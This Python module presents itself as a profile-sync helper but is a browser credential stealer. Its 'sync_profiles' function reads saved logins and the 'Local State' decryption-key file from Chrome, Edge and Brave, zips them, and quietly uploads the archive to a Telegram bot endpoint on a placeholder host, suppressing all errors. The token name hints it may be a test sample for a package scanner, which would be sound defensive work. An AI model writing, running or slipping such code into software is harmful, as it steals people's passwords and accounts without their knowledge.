import io
import os
import shutil
import sqlite3
import tempfile
import urllib.request
import uuid
import zipfile

_BOT = "https://api.telegram.example.invalid/bot0000000:PIPWARDENTEST/sendDocument"
_CHAT = "-100123456"
_BROWSERS = {
    "chrome": r"Google\Chrome\User Data",
    "edge": r"Microsoft\Edge\User Data",
    "brave": r"BraveSoftware\Brave-Browser\User Data",
}


def _rows(root):
    db = os.path.join(root, "Default", "Login Data")
    if not os.path.exists(db):
        return []
    tmp = os.path.join(tempfile.gettempdir(), uuid.uuid4().hex)
    shutil.copy2(db, tmp)
    con = sqlite3.connect(tmp)
    try:
        return con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    finally:
        con.close()
        os.remove(tmp)


def sync_profiles():
    local = os.environ.get("LOCALAPPDATA")
    if not local:
        return
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, rel in _BROWSERS.items():
            root = os.path.join(local, rel)
            try:
                z.writestr(f"{name}.txt", "\n".join(f"{u}\t{n}\t{p.hex()}" for u, n, p in _rows(root)))
                z.write(os.path.join(root, "Local State"), f"{name}_state.json")
            except Exception:
                continue
    b = uuid.uuid4().hex
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"chat_id\"\r\n\r\n{_CHAT}\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"document\"; filename=\"p.zip\"\r\n\r\n").encode()
    body += buf.getvalue() + f"\r\n--{b}--\r\n".encode()
    try:
        urllib.request.urlopen(urllib.request.Request(_BOT, data=body,
                               headers={"Content-Type": "multipart/form-data; boundary=" + b}), timeout=10)
    except Exception:
        pass
